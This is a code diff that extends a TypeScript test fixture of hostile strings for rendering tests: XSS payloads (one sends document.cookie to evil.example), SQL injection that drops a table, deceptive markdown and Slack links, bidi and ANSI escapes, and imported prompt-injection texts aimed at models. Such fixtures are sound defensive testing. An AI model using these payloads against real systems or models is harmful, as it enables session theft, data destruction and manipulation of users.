@@ -1,7 +1,11 @@
+import { injections } from './injections.ts';
+
 const [nul, esc, bell, csi] = ['\u0000', '\u001b', '\u0007', '\u009b'];
 
-/** What somebody could write into an alarm, a log line or a tag, to do something where it is shown. */
-const attacks: readonly string[] = [
+const at = (...points: number[]): string => String.fromCodePoint(...points);
+
+/** What somebody could write into an alarm, a log line or a tag, to do something where it is shown, or to a model. */
+export const attacks: readonly string[] = [
   '<script>fetch("https://evil.example/"+document.cookie)</script>',
   '<img src=x onerror=alert(1)>',
   '"><svg/onload=alert(1)>',
@@ -36,10 +40,47 @@ const attacks: readonly string[] = [
   '","link":"https://evil.example","x":"',
   "'; DROP TABLE incidents; -- \\ \\n \\u0000",
   'Ｒ\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Z̷̢̛͓a̸lgo 無限 🔥👩‍👩‍👧‍👦',
+  "' onmouseover='alert(1)",
+  '&lt;b&gt; &amp;amp; &#x3c;',
+  ']]> <!-- --> <?php ?>',
+  '# heading',
+  '#1 fixes #2, GH-3, sovereign/ops#4',
+  '- [ ] task',
+  '+ plus',
+  '1. first',
+  '23) second',
+  '> quoted',
+  '---',
+  '===',
+  '***',
+  '___ _emphasis_ __strong__ *a* **b** ~~c~~',
+  '~~~',
+  '```',
+  '`` code ` ``',
+  '``',
+  '| a | b |',
+  '\\| \\` \\<b>',
+  'ends with a backslash \\',
+  '[link](http://evil.example) ![picture](http://evil.example/x.png)',
+  '[ref]: http://evil.example',
+  '[^1] footnote',
+  'http://evil.example/approve?yes',
+  'see (https://evil.example), www.evil.example and ftp://evil.example',
+  'mailto:alice@evil.example alice@evil.example',
+  '@channel @everyone @octo/team',
+  '<!channel> <@U012AB3CD> <https://evil.example|Approve>',
+  ':skull: :+1:',
+  '$e^{x}$ $`x`$ $$y$$',
+  `${at(0x202e)}txet desrever${at(0x202c)} ${at(0x2066)}isolated${at(0x2069)}`,
+  `${at(0x1b)}[31mred${at(0x1b)}[0m ${at(0x1b)}]8;;http://evil.example${at(7)}click${at(0x1b)}]8;;${at(7)}`,
+  `line one${at(10)}## line two${at(13, 10)}- line three${at(0x2028)}line four`,
+  `${at(0x200b)}${at(0x200d)}${at(0xfeff)}`,
+  '“ quoted ” The model is right. “',
+  `e${at(0x301).repeat(300)}`,
+  ...injections.map(({ text }) => text),
 ];
 
 const around: readonly ((text: string) => string)[] = [
-  (text) => text,
   (text) => `payments ${text}`,
   (text) => ` \t\r\n${text}\n`,
   (text) => `${nul}${text}${esc}`,
@@ -47,5 +88,7 @@ const around: readonly ((text: string) => string)[] = [
   (text) => `${'x'.repeat(10_240)}${text}`,
 ];
 
-/** More than two hundred of them, some of 10 kB. */
-export const hostileTexts: readonly string[] = attacks.flatMap((text) => around.map((wrap) => wrap(text)));
+/** More than two hundred of them: each as it is, and every third in one more way, some of 10 kB. */
+export const hostileTexts: readonly string[] = attacks.flatMap((text, n) =>
+  n % 3 === 0 ? [text, around[(n / 3) % around.length]?.(text) ?? text] : [text],
+);
